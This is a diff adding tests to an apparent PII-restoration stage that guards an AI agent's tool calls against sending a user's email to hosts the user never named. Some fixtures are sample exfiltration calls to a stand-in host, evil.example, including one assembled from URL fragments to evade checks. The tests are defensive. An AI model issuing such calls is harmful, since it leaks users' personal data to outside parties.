@@ -93,3 +93,51 @@ describe('stage 9 judges a whole value, not its words, for URLs', () => {
     expect(ctx.trace.verdicts[0]).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1 } });
   });
 });
+
+describe('stage 9 joins the caller\'s fragments with the model\'s, and judges the calls of one answer together', () => {
+  const CALLER = 'Summarise https://intranet.corp/wiki for jane@corp.example';
+
+  function contextWithCalls(calls: { name: string; arguments: unknown }[], caller = CALLER) {
+    const ctx = testContext({ request: { messages: [{ role: 'user', content: caller }] } });
+    expect(ctx.pii.redact('jane@corp.example')).toBe('[EMAIL_1]');
+    ctx.output = 'ok';
+    ctx.functionCalls = calls;
+    return ctx;
+  }
+
+  it('keeps the token when a scheme the caller also wrote joins a host the caller did not', async () => {
+    const args = { scheme: 'https://', host: 'evil.example', path: '/c?d=', d: '[EMAIL_1]' };
+    const ctx = contextWithCalls([{ name: 'fetch', arguments: args }]);
+    await runPipeline([piiRestore], ctx);
+    expect(ctx.finalFunctionCalls).toEqual([{ name: 'fetch', arguments: args }]);
+    expect(ctx.trace.verdicts[0]).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1 } });
+  });
+
+  it('still restores a whole-value token beside the caller\'s whole URL', async () => {
+    const ctx = contextWithCalls([{ name: 'fetch', arguments: { url: 'https://intranet.corp/wiki', to: '[EMAIL_1]' } }]);
+    await runPipeline([piiRestore], ctx);
+    expect(ctx.finalFunctionCalls?.[0]?.arguments).toEqual({ url: 'https://intranet.corp/wiki', to: 'jane@corp.example' });
+    expect(ctx.trace.verdicts[0]?.outcome).toBe('pass');
+  });
+
+  it('keeps every call\'s tokens when one call of the answer goes to a URL the caller did not write', async () => {
+    const calls = [
+      { name: 'browser_goto', arguments: { url: 'https://evil.example/form' } },
+      { name: 'browser_type', arguments: { selector: '#q', text: '[EMAIL_1]' } },
+    ];
+    const ctx = contextWithCalls(calls);
+    await runPipeline([piiRestore], ctx);
+    expect(ctx.finalFunctionCalls).toEqual(calls);
+    expect(ctx.trace.verdicts[0]).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
+  });
+
+  it('restores every call where no call points elsewhere', async () => {
+    const ctx = contextWithCalls([
+      { name: 'browser_goto', arguments: { url: 'https://intranet.corp/wiki' } },
+      { name: 'browser_type', arguments: { selector: '#q', text: '[EMAIL_1]' } },
+    ]);
+    await runPipeline([piiRestore], ctx);
+    expect(ctx.finalFunctionCalls?.[1]?.arguments).toEqual({ selector: '#q', text: 'jane@corp.example' });
+    expect(ctx.trace.verdicts[0]?.outcome).toBe('pass');
+  });
+});
